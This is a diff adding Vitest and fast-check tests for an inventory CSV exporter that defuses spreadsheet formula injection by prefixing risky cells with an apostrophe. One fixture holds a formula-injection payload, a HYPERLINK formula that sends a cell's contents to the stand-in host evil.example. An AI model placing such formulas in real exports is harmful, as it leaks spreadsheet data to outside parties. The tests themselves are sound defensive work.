@@ -1,4 +1,7 @@
+import { parse } from "csv-parse/sync";
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { INVENTORY_CATEGORIES, INVENTORY_UNITS, inventoryItemSchema, MAX_TEXT_LENGTH } from "./inventory";
 import { inventoryToCsv, MAX_CSV_ROWS, parseInventoryCsv } from "./inventory-csv";
 
 const items = [
@@ -50,5 +53,58 @@ describe("the inventory CSV", () => {
     const many = "name,unit,price,vendor,category\n" + Array.from({ length: MAX_CSV_ROWS + 1 }, (_, i) => `Item ${i},kg,1,Metro,food`).join("\n");
     expect(parseInventoryCsv(many)).toEqual({ ok: false, errors: [{ line: 0, messages: ["inventory.csvTooManyRows"] }] });
     expect(parseInventoryCsv('name,unit,price,vendor,category\n"Un,kg')).toMatchObject({ ok: false, errors: [{ line: 0 }] });
+  });
+
+  describe("opened in a spreadsheet program", () => {
+    const formula = { name: '=HYPERLINK("https://evil.example/?"&B2,"Sipariş")', unit: "kg", priceKurus: 100, vendor: "@Acc Vendor", category: "food" as const };
+    /** The cells of a CSV text as a spreadsheet program reads them. */
+    const cells = (csv: string) => (parse(csv.slice(1)) as string[][]).slice(1);
+
+    it("gets no cell that starts a formula: such a text starts with an apostrophe", () => {
+      const [row] = cells(inventoryToCsv([formula]));
+      expect(row).toEqual([`'${formula.name}`, "kg", "1.00", "'@Acc Vendor", "food"]);
+      for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    });
+
+    it("reads back the very text that was exported, apostrophes of its own included", () => {
+      const names = [formula, { ...formula, name: "'=1+1", vendor: "'Kara' Ltd" }, { ...formula, name: "-Soğan", vendor: "''+Metro" }, { ...formula, name: "+90 Çay", vendor: "O'Neil" }];
+      const parsed = parseInventoryCsv(inventoryToCsv(names));
+      expect(parsed.ok && parsed.rows.map((row) => [row.name, row.vendor])).toEqual(names.map((item) => [item.name, item.vendor]));
+      expect(cells(inventoryToCsv(names)).map((row) => [row[0], row[3]])).toEqual([
+        [`'${formula.name}`, "'@Acc Vendor"],
+        ["''=1+1", "'Kara' Ltd"],
+        ["'-Soğan", "'''+Metro"],
+        ["'+90 Çay", "O'Neil"],
+      ]);
+    });
+
+    it("export → import → export is byte for byte the same, whatever the names and vendors", () => {
+      // Texts a person can save (the form's rules), often starting with what a formula starts with.
+      const start = fc.constantFrom("", "'", "''", "=", "+", "-", "@", "'=", "'-", "''@", " ");
+      const text = fc
+        .tuple(start, fc.string({ maxLength: 20 }), fc.constantFrom("", "'", "=", ",", '"', ";"))
+        .map((parts) => parts.join("").trim())
+        .filter((value) => inventoryItemSchema.shape.name.safeParse(value).success && value.length <= MAX_TEXT_LENGTH);
+      const item = fc.record({
+        name: text,
+        unit: fc.constantFrom(...INVENTORY_UNITS),
+        priceKurus: fc.integer({ min: 0, max: 1_000_000 }),
+        vendor: text,
+        category: fc.constantFrom(...INVENTORY_CATEGORIES),
+      });
+      const items = fc.uniqueArray(item, { minLength: 1, maxLength: 8, selector: (row) => `${row.name.toLowerCase()}\n${row.vendor.toLowerCase()}` });
+      fc.assert(
+        fc.property(items, (rows) => {
+          const csv = inventoryToCsv(rows);
+          const parsed = parseInventoryCsv(csv);
+          // Two names the import folds into one (ı and i, say) are refused as duplicates, never changed.
+          if (!parsed.ok) return;
+          expect(parsed.rows.map(({ name, vendor }) => ({ name, vendor }))).toEqual(rows.map(({ name, vendor }) => ({ name, vendor })));
+          expect(inventoryToCsv(parsed.rows.map((row) => ({ ...row, priceKurus: row.price })))).toBe(csv);
+          for (const row of cells(csv)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+        }),
+        { numRuns: 500 },
+      );
+    });
   });
 });
